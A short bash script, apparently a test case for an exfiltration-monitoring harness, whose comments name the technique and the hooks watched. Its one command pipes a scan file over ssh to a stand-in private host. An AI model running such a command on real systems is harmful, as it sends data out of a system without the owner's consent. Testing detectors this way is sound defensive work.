#!/usr/bin/env bash
# technique: ssh takes the scan as its standard input
# hooks: file_permission, socket_connect
# sink: private-ssh

. attack.sh
timeout 20 ssh -p "$PORT_SSH" "keeper@$PRIVATE_HOST" "cat >$here" <"$SCAN"
